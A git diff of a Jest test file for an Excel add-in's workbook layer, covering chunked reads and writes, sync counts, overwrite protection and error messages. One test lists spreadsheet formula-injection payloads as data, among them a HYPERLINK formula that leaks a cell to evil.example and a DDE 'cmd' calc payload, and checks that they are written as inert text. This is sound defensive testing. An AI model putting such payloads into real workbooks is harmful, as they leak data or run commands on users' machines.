@@ -1,15 +1,16 @@
 /**
- * The Excel host against office-addin-mock: what it writes, what it reads, and how many
- * context.sync() round trips each operation takes for small and large data (the same).
+ * The Excel host against the Excel model in ./excelMock: what it reads and writes, how many
+ * context.sync() round trips each operation takes (a fixed number plus one per chunk), and
+ * how it stays within Excel on the web's 5 MB request and response limit.
  */
 import { createExcelWorkbook, friendlyOfficeMessage } from "../../src/office/excelWorkbook";
+import { DOCUMENTED_OFFICE_ERROR_CODES } from "../../src/office/officeErrors";
+import type { PaneVisibility } from "../../src/office/paneVisibility";
 import { project, DEFAULT_ASSUMPTIONS, type Assumptions } from "../../src/core/planning";
 import { writeScenarioSheet } from "../../src/taskpane/scenarioWriter";
 import { DEFAULT_TARGET_VALUES } from "../../src/taskpane/targets";
-import { WorkbookError, type CellValue } from "../../src/workbook/types";
-import { ExcelMock, officeError } from "./excelMock";
-
-/* eslint-disable @typescript-eslint/no-unsafe-member-access, @typescript-eslint/no-unsafe-assignment -- reading back what the code assigned to untyped mocks */
+import { formula, WorkbookError, type CellValue } from "../../src/workbook/types";
+import { ExcelMock, officeError, PAYLOAD_LIMIT } from "./excelMock";
 
 // office-addin-mock asks office-addin-manifest which host it mocks; the shared stub is empty.
 jest.mock("office-addin-manifest", () => ({
@@ -25,9 +26,9 @@ jest.mock("office-addin-manifest", () => ({
 
 const HEADERS = ["Post ID", "Team", "Status", "FTE", "Cases"];
 
-function staffRows(n: number): CellValue[][] {
+function staffRows(n: number, note = ""): CellValue[][] {
   return Array.from({ length: n }, (_, i) => [
-    `P${i + 1}`,
+    `P${i + 1}${note}`,
     i % 2 ? "Assessment" : "Child protection",
     "Permanent",
     1,
@@ -35,7 +36,7 @@ function staffRows(n: number): CellValue[][] {
   ]);
 }
 
-function workbookWithStaff(n: number): ExcelMock {
+function workbookWithStaff(n: number, note = ""): ExcelMock {
   return new ExcelMock({
     sheets: ["Budget", "Staff"],
     tables: [
@@ -46,19 +47,28 @@ function workbookWithStaff(n: number): ExcelMock {
         headers: ["Line", "Amount"],
         rows: [["Agency", 5]],
       },
-      { name: "StaffList", sheet: "Staff", topLeft: "B3", headers: HEADERS, rows: staffRows(n) },
+      {
+        name: "StaffList",
+        sheet: "Staff",
+        topLeft: "B3",
+        headers: HEADERS,
+        rows: staffRows(n, note),
+        totals: ["Total", null, null, n, 12 * n],
+      },
     ],
   });
 }
 
+const maxRequest = (excel: ExcelMock) => Math.max(...excel.syncLog.map((s) => s.requestBytes));
+const maxResponse = (excel: ExcelMock) => Math.max(...excel.syncLog.map((s) => s.responseBytes));
+
 describe("findStaffingData", () => {
   it.each([10, 10_000])(
-    "reads a %i-row staffing table in three syncs, all rows, with its position",
+    "reads a %i-row table's body, without its totals row, in 2 syncs + one per 40,000 cells",
     async (n) => {
       const excel = workbookWithStaff(n);
       const block = await createExcelWorkbook(excel.run).findStaffingData();
-      expect(excel.syncs).toBe(3);
-      expect(block).not.toBeNull();
+      expect(excel.syncs).toBe(2 + Math.ceil((n * HEADERS.length) / 40_000));
       expect(block?.sheet).toBe("Staff");
       expect(block?.tableName).toBe("StaffList");
       expect(block?.address).toBe(`B3:F${3 + n}`);
@@ -73,91 +83,240 @@ describe("findStaffingData", () => {
         1,
         12,
       ]);
+      expect(block?.rows.some((row) => row[0] === "Total")).toBe(false);
     },
   );
 
-  it("falls back to the current region around the selection when no table looks like staffing", async () => {
+  it("reads 200,000 rows in chunks, each response under 5 MB: 2 syncs + one per 40,000 cells", async () => {
+    const excel = workbookWithStaff(200_000);
+    const block = await createExcelWorkbook(excel.run).findStaffingData();
+    expect(block?.rows).toHaveLength(200_000);
+    expect(block?.rows[199_999][0]).toBe("P200000");
+    expect(excel.syncs).toBe(2 + Math.ceil((200_000 * 5) / 40_000));
+    expect(maxResponse(excel)).toBeLessThan(PAYLOAD_LIMIT);
+  });
+
+  it("reads a chunk Excel finds too big again in halves", async () => {
+    // 2,000 rows of 1 KB notes: 40,000 cells would be 2 MB, over a 1 MB limit.
+    const excel = workbookWithStaff(2_000, ` ${"x".repeat(1_000)}`);
+    excel.payloadLimit = 1024 * 1024;
+    const block = await createExcelWorkbook(excel.run).findStaffingData();
+    expect(block?.rows).toHaveLength(2_000);
+    expect(block?.rows[1_999][0]).toMatch(/^P2000 x+$/);
+    const delivered = excel.syncLog.filter((s) => s.responseBytes <= excel.payloadLimit);
+    expect(delivered.length).toBeLessThan(excel.syncLog.length); // some were refused…
+    expect(excel.syncLog.at(-1)!.responseBytes).toBeLessThanOrEqual(excel.payloadLimit); // …then read
+  });
+
+  it("falls back to the current region around the active cell, blank cells as null", async () => {
     const excel = new ExcelMock({
-      sheets: ["Sheet1"],
-      region: {
-        sheet: "Sheet1",
-        address: "A1:C3",
-        values: [
-          ["Team", "FTE", "Status"],
-          ["A", 1, "Permanent"],
-          ["B", "", "Vacant"],
-        ],
-      },
+      sheets: [
+        {
+          name: "Sheet1",
+          cells: {
+            A1: "Team",
+            B1: "FTE",
+            C1: "Status",
+            A2: "A",
+            B2: 1,
+            C2: "Permanent",
+            A3: "B",
+            C3: "Vacant",
+          },
+        },
+      ],
+      selection: { sheet: "Sheet1", areas: ["B2"] },
     });
     const block = await createExcelWorkbook(excel.run).findStaffingData();
     expect(excel.syncs).toBe(3);
     expect(block?.tableName).toBeUndefined();
     expect(block?.address).toBe("A1:C3");
-    // Empty cells come back as null, not "".
     expect(block?.rows).toEqual([
       ["A", 1, "Permanent"],
       ["B", null, "Vacant"],
     ]);
   });
 
-  it("returns null for an empty selection", async () => {
+  it("keeps loading when several areas are selected (getSelectedRange would throw)", async () => {
+    const excel = new ExcelMock({
+      sheets: [{ name: "Sheet1", cells: { A1: "Team", B1: "FTE", A2: "A", B2: 1 } }],
+      selection: { sheet: "Sheet1", areas: ["A1:A2", "D5:E6"] },
+    });
+    // The model throws as Excel does…
+    const context = excel.context as Excel.RequestContext;
+    context.workbook.getSelectedRange().load("address");
+    await expect(context.sync()).rejects.toMatchObject({ code: "InvalidSelection" });
+    // …and the host does not use it.
+    const block = await createExcelWorkbook(excel.run).findStaffingData();
+    expect(block?.headers).toEqual(["Team", "FTE"]);
+  });
+
+  it("returns null for an empty sheet", async () => {
     const excel = new ExcelMock({ sheets: ["Sheet1"] });
     expect(await createExcelWorkbook(excel.run).findStaffingData()).toBeNull();
   });
 });
 
 describe("writeTable", () => {
-  it.each([10, 10_000])(
-    "writes a %i-row table in two syncs: one tables.add, one body assignment",
-    async (n) => {
-      const excel = new ExcelMock({ sheets: ["Scenario – A"], tables: [] });
-      const rows: CellValue[][] = Array.from({ length: n }, (_, i) => [
-        `2026-${(i % 12) + 1}`,
-        i,
-        null,
-        "=B5*2",
-      ]);
-      const written = await createExcelWorkbook(excel.run).writeTable("Scenario – A", {
-        name: "Projection A",
-        topLeft: "A4",
-        headers: ["Month", "FTE", "Note", "Double"],
-        rows,
-        columnFormats: ["@", "0.0", null, "0"],
-      });
-      expect(excel.syncs).toBe(2);
-      expect(excel.tablesAdded).toHaveLength(1);
-      expect(excel.tablesAdded[0].address).toBe(`'Scenario – A'!A4:D${4 + n}`);
-      expect(excel.tablesAdded[0].hasHeaders).toBe(true);
-      expect(excel.tablesAdded[0].table.name).toBe("Projection_A");
-      expect(written).toEqual({
-        sheet: "Scenario – A",
-        tableName: "Projection_A",
-        address: `A4:D${4 + n}`,
-      });
+  it.each([10, 10_000])("writes a %i-row table in two syncs", async (n) => {
+    const excel = new ExcelMock({ sheets: ["Scenario – A"] });
+    const rows: CellValue[][] = Array.from({ length: n }, (_, i) => [
+      `2026-${(i % 12) + 1}`,
+      i,
+      null,
+    ]);
+    const written = await createExcelWorkbook(excel.run).writeTable("Scenario – A", {
+      name: "Projection A",
+      topLeft: "A4",
+      headers: ["Month", "FTE", "Note"],
+      rows,
+      columnFormats: ["@", "0.0", null],
+    });
+    expect(excel.syncs).toBe(2);
+    expect(written).toEqual({
+      sheet: "Scenario – A",
+      tableName: "Projection_A",
+      address: `A4:C${4 + n}`,
+    });
+    expect(excel.tables.map((t) => t.name)).toEqual(["Projection_A"]);
+    expect(excel.value("Scenario – A", "A4")).toBe("Month");
+    // The "@" column keeps "2026-1" as typed text (Excel would otherwise make it a date).
+    expect(excel.value("Scenario – A", "A5")).toBe("2026-1");
+    expect(excel.numberFormat("Scenario – A", "A5")).toBe("@");
+    expect(excel.value("Scenario – A", `B${4 + n}`)).toBe(n - 1);
+    expect(excel.numberFormat("Scenario – A", "B5")).toBe("0.0");
+  });
 
-      const header = excel.writesOn("Scenario – A").find((w) => w.address === "A4:D4");
-      expect(header?.range.values).toEqual([["Month", "FTE", "Note", "Double"]]);
-      const body = excel.writesOn("Scenario – A").find((w) => w.address === `A5:D${4 + n}`);
-      const formulas = body?.range.formulas as unknown[][];
-      expect(formulas).toHaveLength(n);
-      expect(formulas[0]).toEqual(["2026-1", 0, "", "=B5*2"]);
-      // Number formats go on as one block too.
-      const formats = excel
-        .writesOn("Scenario – A")
-        .filter((w) => w.range.numberFormat !== undefined);
-      expect(formats).toHaveLength(1);
-      expect((formats[0].range.numberFormat as unknown[][])[n - 1]).toEqual([
-        "@",
-        "0.0",
-        "General",
-        "0",
+  it("writes 100,000 rows in chunks under 5 MB: one sync + one per 4 MB of cells", async () => {
+    const excel = new ExcelMock({ sheets: ["Big"] });
+    const note = "a note of about forty characters, quite";
+    const rows: CellValue[][] = Array.from({ length: 100_000 }, (_, i) => [i, note, i % 7 === 0]);
+    await createExcelWorkbook(excel.run).writeTable("Big", {
+      name: "Big",
+      topLeft: "A1",
+      headers: ["N", "Note", "Flag"],
+      rows,
+    });
+    const cellBytes = 100_000 * (2 + 24 + note.length + 3 + 5);
+    expect(excel.syncs).toBe(1 + Math.ceil(cellBytes / (4 * 1024 * 1024)));
+    expect(excel.syncs).toBeGreaterThan(2);
+    expect(maxRequest(excel)).toBeLessThan(PAYLOAD_LIMIT);
+    expect(excel.value("Big", "A100001")).toBe(99_999);
+    expect(excel.value("Big", "B50001")).toBe(note);
+  });
+
+  it("writes text as text however it looks, and formulas only where asked", async () => {
+    const hostile = [
+      '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
+      "=cmd|' /C calc'!A0",
+      "+5 ASYE",
+      "-3 agency",
+      "@SUM(A1)",
+      "1/2",
+      "007",
+      "TRUE",
+      "#N/A",
+      "'quoted",
+      "2026-01",
+      "5%",
+      "10:30",
+      "Jan 2026",
+      "=1+1 (text)",
+    ];
+    const excel = new ExcelMock({ sheets: ["Labels"] });
+    await createExcelWorkbook(excel.run).writeTable("Labels", {
+      name: "Labels",
+      topLeft: "A1",
+      headers: ["Label", "As text", "Formula"],
+      rows: hostile.map((text, i) => [text, text, i === 0 ? formula("=1+1") : null]),
+      columnFormats: [null, "@", null],
+    });
+    hostile.forEach((text, i) => {
+      expect([excel.value("Labels", `A${i + 2}`), excel.formula("Labels", `A${i + 2}`)]).toEqual([
+        text,
+        null,
       ]);
-      // The number formats go on before the values, so "2026-1" in a text column stays text.
-      expect(excel.assignments.map((a) => a.property)).toEqual(["numberFormat", "formulas"]);
-      // Only the target sheet is touched.
-      expect(new Set(excel.written.map((w) => w.sheet))).toEqual(new Set(["Scenario – A"]));
-    },
-  );
+      expect([excel.value("Labels", `B${i + 2}`), excel.formula("Labels", `B${i + 2}`)]).toEqual([
+        text,
+        null,
+      ]);
+    });
+    expect(excel.formula("Labels", "C2")).toBe("=1+1");
+  });
+
+  it("never writes over the user's cells, and writes nothing when it refuses", async () => {
+    const excel = new ExcelMock({ sheets: [{ name: "Mine", cells: { B6: "keep me" } }] });
+    const before = excel.snapshot("Mine");
+    const attempt = createExcelWorkbook(excel.run).writeTable("Mine", {
+      name: "T",
+      topLeft: "A4",
+      headers: ["A", "B"],
+      rows: [
+        [1, 2],
+        [3, 4],
+        [5, 6],
+      ],
+    });
+    await expect(attempt).rejects.toThrow(
+      'Did not write the table "T" on "Mine": A4:B7 already holds data, and the add-in never writes over cells it did not create.',
+    );
+    expect(excel.syncs).toBe(1);
+    expect(excel.snapshot("Mine")).toEqual(before);
+    expect(excel.tables).toEqual([]);
+  });
+
+  it("names the missing sheet", async () => {
+    const excel = new ExcelMock({ sheets: ["Staff"] });
+    await expect(
+      createExcelWorkbook(excel.run).writeTable("Gone", {
+        name: "T",
+        topLeft: "A1",
+        headers: ["A"],
+        rows: [],
+      }),
+    ).rejects.toThrow('There is no sheet called "Gone".');
+  });
+
+  it("gives an empty table one blank body row, and a unique valid name", async () => {
+    const excel = workbookWithStaff(1);
+    const host = createExcelWorkbook(excel.run);
+    const a = await host.writeTable("Budget", {
+      name: "StaffList",
+      topLeft: "D1",
+      headers: ["X"],
+      rows: [],
+    });
+    const b = await host.writeTable("Budget", {
+      name: "R1C1",
+      topLeft: "F1",
+      headers: ["Y"],
+      rows: [[1]],
+    });
+    expect(a).toEqual({ sheet: "Budget", tableName: "StaffList_2", address: "D1:D2" });
+    expect(b.tableName).toBe("T_R1C1");
+  });
+});
+
+describe("writeCells", () => {
+  it("writes a title and the live formula in two syncs each, text as text", async () => {
+    const excel = new ExcelMock({ sheets: ["S"] });
+    const host = createExcelWorkbook(excel.run);
+    await host.writeCells("S", "A1", [["=not a formula"], ["+5 ASYE"]]);
+    expect(excel.syncs).toBe(2);
+    await host.writeCells("S", "A4", [["Live"], [formula("=WORKFORCE.PROJECT(A1:B2)")]]);
+    expect(excel.syncs).toBe(4);
+    expect(excel.value("S", "A1")).toBe("=not a formula");
+    expect(excel.value("S", "A2")).toBe("+5 ASYE");
+    expect(excel.formula("S", "A5")).toBe("=WORKFORCE.PROJECT(A1:B2)");
+  });
+
+  it("refuses to overwrite a cell that holds data", async () => {
+    const excel = new ExcelMock({ sheets: [{ name: "S", cells: { A2: 0 } }] });
+    await expect(
+      createExcelWorkbook(excel.run).writeCells("S", "A1", [["a"], ["b"]]),
+    ).rejects.toThrow(/A1:A2 already holds data/);
+    expect(excel.value("S", "A1")).toBeNull();
+  });
 });
 
 describe("scenario writing", () => {
@@ -171,34 +330,34 @@ describe("scenario writing", () => {
 
   it.each([12, 120])("writes a %i-month scenario in the same number of syncs", async (months) => {
     const excel = new ExcelMock({ sheets: ["Staff"] });
+    const before = excel.snapshot("Staff");
     const host = createExcelWorkbook(excel.run);
-    const rows = project(
-      assumptions,
-      [{ month: "2026-03", fte: 21, kind: "international" }],
-      months,
-    );
+    const cohorts = [
+      { month: "2026-03", fte: 21, kind: "international" as const, label: "+5 ASYE" },
+    ];
+    const rows = project(assumptions, cohorts, months);
     const sheet = await writeScenarioSheet(
       host,
-      {
-        name: "Plan",
-        assumptions,
-        cohorts: [{ month: "2026-03", fte: 21, kind: "international" }],
-        months,
-      },
+      { name: "Plan/Q1", assumptions, cohorts, months },
       rows,
       DEFAULT_TARGET_VALUES,
     );
-    expect(sheet).toBe("Scenario – Plan");
-    // addSheet 2 + title 1 + three tables × 2 + two charts × 1 + live formula 1.
-    expect(excel.syncs).toBe(12);
-    expect(excel.sheetsAdded).toEqual(["Scenario – Plan"]);
-    expect(excel.written.every((w) => w.sheet === "Scenario – Plan")).toBe(true);
-    expect(excel.charts.map((c) => c.type)).toEqual(["Line", "Line"]);
-    const caseload = excel.charts[0].chart;
-    expect(caseload.title.text).toBe("Caseload per worker – Plan");
-    const seriesNames = (caseload.series.list as { name: string }[]).map((s) => s.name);
-    expect(seriesNames).toEqual(["Caseload per worker", "Band low", "Band high"]);
-    expect(excel.charts[1].chart.axes.valueAxis.numberFormat).toBe("0%");
+    expect(sheet).toBe("Scenario – Plan-Q1");
+    // addSheet 2 + title 2 + three tables × 2 + two charts × 1 + live formula 2.
+    expect(excel.syncs).toBe(14);
+    expect(excel.snapshot("Staff")).toEqual(before);
+    expect(excel.value(sheet, "H5")).toBe("+5 ASYE"); // the cohort label stays text
+    const charts = excel.sheet(sheet).charts;
+    expect(charts.map((c) => c.type)).toEqual(["Line", "Line"]);
+    expect(charts[0].title).toBe("Caseload per worker – Plan/Q1");
+    expect(charts[0].series.map((s) => s.name)).toEqual([
+      "Caseload per worker",
+      "Band low",
+      "Band high",
+    ]);
+    expect(charts[1].valueAxisFormat).toBe("0%");
+    const live = Object.entries(excel.snapshot(sheet)).find(([, cell]) => cell.formula);
+    expect(live?.[1].formula).toMatch(/^=WORKFORCE\.PROJECT\(\$A\$5:\$B\$\d+,\$D\$4:\$H\$5,\d+\)$/);
   });
 });
 
@@ -207,28 +366,35 @@ describe("sheets, selection and settings", () => {
     const excel = new ExcelMock({ sheets: ["Scenario – A", "scenario – a (2)"] });
     const name = await createExcelWorkbook(excel.run).addSheet("Scenario – A");
     expect(name).toBe("Scenario – A (3)");
-    expect(excel.sheetsAdded).toEqual(["Scenario – A (3)"]);
     expect(excel.syncs).toBe(2);
+    expect(excel.activeSheet).toBe("Scenario – A (3)");
     const long = await createExcelWorkbook(excel.run).addSheet(
       "Scenario: a very long name [draft] for testing",
     );
-    expect(long).toBe("Scenario- a very long name -dra");
-    expect(long.length).toBeLessThanOrEqual(31);
+    expect(long).toBe("Scenario- a very long name draf");
   });
 
-  it("selects a row on its sheet in one sync", async () => {
-    const excel = new ExcelMock({ sheets: ["Staff"] });
-    await createExcelWorkbook(excel.run).selectRange("Staff", "B9:F9");
+  it("selects a row on its sheet in one sync; a missing sheet is named", async () => {
+    const excel = new ExcelMock({ sheets: ["Staff", "Other"] });
+    const host = createExcelWorkbook(excel.run);
+    await host.selectRange("Staff", "B9:F9");
     expect(excel.selected).toEqual([{ sheet: "Staff", address: "B9:F9" }]);
-    expect(excel.activated).toEqual(["Staff"]);
+    expect(excel.activeSheet).toBe("Staff");
     expect(excel.syncs).toBe(1);
+    await expect(host.selectRange("Gone", "A1")).rejects.toThrow(
+      'There is no sheet called "Gone".',
+    );
   });
 
-  it("deletes only the named sheet", async () => {
+  it("deletes only the named sheet, and never the last one", async () => {
     const excel = new ExcelMock({ sheets: ["Staff", "Scenario – A"] });
-    await createExcelWorkbook(excel.run).deleteSheet("Scenario – A");
-    expect(excel.sheetsDeleted).toEqual(["Scenario – A"]);
-    expect(await createExcelWorkbook(excel.run).listSheets()).toEqual(["Staff"]);
+    const host = createExcelWorkbook(excel.run);
+    await host.deleteSheet("Scenario – A");
+    expect(await host.listSheets()).toEqual(["Staff"]);
+    await expect(host.deleteSheet("Staff")).rejects.toThrow(/only sheet/);
+    await expect(host.deleteSheet("Missing")).rejects.toThrow(
+      'There is no sheet called "Missing".',
+    );
   });
 
   it("round-trips settings in one sync each, null when absent", async () => {
@@ -238,23 +404,75 @@ describe("sheets, selection and settings", () => {
     expect(excel.syncs).toBe(1);
     await host.setSetting("workforce.targets", '{"version":1,"data":{}}');
     expect(excel.syncs).toBe(2);
-    expect(excel.settings.get("workforce.targets")).toBe('{"version":1,"data":{}}');
     expect(await host.getSetting("workforce.targets")).toBe('{"version":1,"data":{}}');
   });
 
-  it("inserts the sample in two syncs, as tables on new sheets", async () => {
-    const excel = new ExcelMock({ sheets: ["Staffing"] });
+  it("inserts the sample as tables on new sheets, leaving the user's sheet alone", async () => {
+    const excel = new ExcelMock({ sheets: [{ name: "Staffing", cells: { A1: "mine" } }] });
     const sheet = await createExcelWorkbook(excel.run).insertSample({
       sheets: [
         { name: "Staffing", tableName: "Staffing", headers: HEADERS, rows: staffRows(50) },
-        { name: "Notes", headers: ["About"], rows: [["Sample data"]] },
+        { name: "Notes", headers: ["About"], rows: [["Sample data, 2026-01"]] },
       ],
     });
-    expect(excel.syncs).toBe(2);
+    // 1 (names) + one chunk per sheet + activate.
+    expect(excel.syncs).toBe(4);
     expect(sheet).toBe("Staffing (2)");
-    expect(excel.sheetsAdded).toEqual(["Staffing (2)", "Notes"]);
-    expect(excel.tablesAdded.map((t) => t.address)).toEqual(["'Staffing (2)'!A1:E51"]);
-    expect(excel.written.some((w) => w.sheet === "Staffing")).toBe(false);
+    expect(excel.sheets.map((s) => s.name)).toEqual(["Staffing", "Staffing (2)", "Notes"]);
+    expect(excel.tables.map((t) => [t.name, t.sheet])).toEqual([["Staffing", "Staffing (2)"]]);
+    expect(excel.snapshot("Staffing")).toEqual({ A1: { value: "mine", format: undefined } });
+    expect(excel.value("Notes", "A2")).toBe("Sample data, 2026-01");
+    expect(excel.activeSheet).toBe("Staffing (2)");
+  });
+});
+
+describe("change events follow the pane's visibility", () => {
+  function visibility(initial: boolean) {
+    let visible = initial;
+    const listeners = new Set<(v: boolean) => void>();
+    const control: PaneVisibility & { set(v: boolean): void } = {
+      isVisible: () => visible,
+      onChange: (callback) => {
+        listeners.add(callback);
+        return Promise.resolve(() => {
+          listeners.delete(callback);
+          return Promise.resolve();
+        });
+      },
+      set(v) {
+        visible = v;
+        for (const l of listeners) l(v);
+      },
+    };
+    return control;
+  }
+
+  it("calls back on edits while visible, notes edits while hidden and reports them once on showing", async () => {
+    const excel = new ExcelMock({ sheets: ["Staff"] });
+    const pane = visibility(true);
+    const calls: number[] = [];
+    const host = createExcelWorkbook(excel.run, {
+      visibility: pane,
+      runInContext: excel.runInContext,
+    });
+    const off = await host.onDataChanged(() => calls.push(calls.length));
+    expect(excel.syncs).toBe(1);
+    await excel.change();
+    expect(calls).toHaveLength(1);
+    pane.set(false);
+    await excel.change();
+    await excel.change();
+    expect(calls).toHaveLength(1);
+    pane.set(true);
+    expect(calls).toHaveLength(2); // one re-read for everything missed
+    pane.set(false);
+    pane.set(true);
+    expect(calls).toHaveLength(2); // nothing changed meanwhile
+    off();
+    await new Promise((resolve) => setTimeout(resolve, 10));
+    expect(excel.handlerCount).toBe(0);
+    await excel.change();
+    expect(calls).toHaveLength(2);
   });
 });
 
@@ -264,19 +482,29 @@ describe("errors", () => {
     excel.failNextSync = officeError("InvalidOperationInCellEditMode", "Edit mode");
     const attempt = createExcelWorkbook(excel.run).setSetting("k", "v");
     await expect(attempt).rejects.toBeInstanceOf(WorkbookError);
-    await expect(createExcelWorkbook(excel.run).deleteSheet("Missing")).rejects.toThrow(
-      'Could not delete the sheet "Missing": a sheet, table or range it needs no longer exists.',
+    excel.failNextSync = officeError("InvalidOperationInCellEditMode", "Edit mode");
+    await expect(createExcelWorkbook(excel.run).listSheets()).rejects.toThrow(
+      "Could not list the sheets: Excel is editing a cell. Press Enter or Esc to finish editing, then try again.",
     );
   });
 
-  it("words each common Office error code", () => {
-    expect(friendlyOfficeMessage("save", { code: "InvalidOperationInCellEditMode" })).toMatch(
-      /Press Enter or Esc/,
+  it("a row too big for one request reports Excel on the web's limit in plain words", async () => {
+    const excel = new ExcelMock({ sheets: ["S"] });
+    const huge = "x".repeat(30_000);
+    const row = Array.from({ length: 200 }, () => huge);
+    await expect(createExcelWorkbook(excel.run).writeCells("S", "A1", [row])).rejects.toThrow(
+      /bigger than Excel on the web accepts in one request \(5 MB\)/,
     );
-    expect(friendlyOfficeMessage("save", { code: "AccessDenied" })).toMatch(
-      /protected or read-only/,
-    );
-    expect(friendlyOfficeMessage("save", { code: "ApiNotFound" })).toMatch(/Update Excel/);
+    expect(excel.value("S", "A1")).toBeNull();
+  });
+
+  it.each(DOCUMENTED_OFFICE_ERROR_CODES)("words the documented code %s", (code) => {
+    const message = friendlyOfficeMessage("save", { code, message: "RAW OFFICE TEXT" });
+    expect(message).toMatch(/^Could not save: [A-Za-z]/);
+    expect(message).not.toContain("RAW OFFICE TEXT");
+  });
+
+  it("falls back to Office's message for an undocumented code", () => {
     expect(friendlyOfficeMessage("save", new Error("boom"))).toBe("Could not save (boom)");
   });
 });
